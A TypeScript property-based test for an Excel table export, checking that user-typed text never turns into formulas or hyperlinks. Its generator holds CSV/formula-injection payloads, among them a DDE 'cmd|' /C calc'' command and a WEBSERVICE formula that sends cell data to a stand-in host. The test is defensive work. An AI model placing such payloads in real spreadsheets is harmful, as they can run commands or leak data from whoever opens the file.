import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { expect, it } from 'vitest';
import { writeTablesExcel } from '../../exports/tables-excel.ts';

/** What a spreadsheet might run, in names of agencies, notes and titles. */
const hostile = fc
  .tuple(
    fc.constantFrom('', ' ', '\t', '\r', '\n', "'", '\u200b', '\u202e', '\u00a0'),
    fc.constantFrom('=', '@', '+', '-', '＝', '＠', '＋', '－', '=+', '+-', '@='),
    fc.constantFrom(
      "cmd|' /C calc'!A0",
      'HYPERLINK("http://x.vn","Báo cáo")',
      'SUM(A1:A9)',
      'WEBSERVICE("http://x.vn/"&A1)',
      '[sách.xlsx]Trang1!A1',
    ),
  )
  .map((parts) => parts.join(''));

it('nothing people typed is a formula, a link or the beginning of one in any cell', async () => {
  await fc.assert(
    fc.asyncProperty(fc.array(hostile, { minLength: 4, maxLength: 4 }), async (words) => {
      const [name = '', title = '', heading = '', note = ''] = words;
      const bytes = await writeTablesExcel([
        {
          name,
          titles: [{ text: title, look: 'title' }],
          table: { columns: [{ heading, width: 40 }], rows: [{ cells: [note] }] },
        },
      ]);
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(Uint8Array.from(bytes).buffer);
      const texts: string[] = [];
      for (const sheet of book.worksheets) {
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
            expect(cell.type).not.toBe(ExcelJS.ValueType.Hyperlink);
            if (typeof cell.value === 'string') texts.push(cell.value);
          }),
        );
      }
      expect(texts.filter((text) => text.includes('x.vn') || text.includes('calc')).length).toBe(
        [title, heading, note].filter((word) => word.includes('x.vn') || word.includes('calc'))
          .length,
      );
      // Saved as CSV and opened again, too: an apostrophe stands in front.
      for (const text of texts) expect(text).not.toMatch(/^\s*[=@+\-＝＠＋－]/u);
    }),
    { numRuns: 40 },
  );
});
